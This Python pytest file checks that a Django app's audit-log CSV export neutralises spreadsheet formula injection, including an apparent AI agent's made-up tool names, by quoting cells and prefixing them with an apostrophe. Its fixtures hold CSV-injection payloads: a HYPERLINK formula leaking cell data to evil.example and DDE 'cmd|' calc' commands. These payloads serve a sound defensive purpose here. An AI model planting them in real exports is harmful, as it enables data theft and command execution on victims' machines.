"""The audit CSV opens safely in a spreadsheet: no cell starts like a formula (OWASP, "CSV Injection")."""

import csv
import hashlib
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from approvals import audit
from approvals.models import Message, Run, ToolCall

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HASHED = ("run", "tool_call", "kind", "actor", "actor_label", "payload", "created_at", "prev_hash")


@pytest.fixture
def formula_events():
    """A call to a tool the model made up per formula, each proposed by an actor labelled with it."""
    run = Run.objects.create(agent="support", request="Help Dana.")
    message = Message.objects.create(run=run, seq=0, role="assistant")
    made = []
    for i, formula in enumerate([*FORMULAS, "'quoted already"]):
        call = ToolCall.objects.create(run=run, message=message, call_id=f"c{i}", tool_name=formula, status="pending")
        made.append(audit.record("proposed", tool_call=call, actor_label=formula, payload={"name": formula}))
    return made


def exported_via_admin(client) -> str:
    response = client.get(reverse("admin:approvals_auditevent_export", args=["csv"]))
    return b"".join(response.streaming_content).decode()


def exported_via_command() -> str:
    stdout = io.StringIO()
    call_command("export_audit", "--format", "csv", stdout=stdout)
    return stdout.getvalue()


def stored(cell: str) -> str:
    """What a reader of the export does: drop the one leading quote the export added."""
    return cell[1:] if cell.startswith("'") else cell


@pytest.mark.parametrize("export", ["admin", "command"])
def test_no_exported_cell_starts_like_a_formula(admin_client, formula_events, export):
    text = exported_via_admin(admin_client) if export == "admin" else exported_via_command()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(formula_events) + 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    tools = [row[5] for row in rows[1:]]
    assert tools == ["'" + formula for formula in FORMULAS] + ["''quoted already"]


def test_every_cell_is_quoted_and_the_quotes_inside_are_doubled(admin_client, formula_events):
    text = exported_via_admin(admin_client)
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"' in text
    first_line = text.splitlines()[1]
    assert first_line.startswith(f'"{formula_events[0].pk}","')


def test_an_exported_csv_line_can_still_be_checked_without_reviewhub(admin_client, formula_events):
    rows = list(csv.DictReader(io.StringIO(exported_via_admin(admin_client), newline="")))
    for row, event in zip(rows, formula_events, strict=True):
        line = {key: stored(value) for key, value in row.items()}
        hashed = {key: line[key] for key in HASHED}
        hashed.update(
            run=int(hashed["run"]), tool_call=int(hashed["tool_call"]), actor=None, payload=json.loads(line["payload"])
        )
        canonical = json.dumps(hashed, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
        assert hashlib.sha256(canonical.encode()).hexdigest() == line["hash"] == event.hash
        assert line["actor_label"] == event.actor_label and line["tool"] == event.tool_call.tool_name
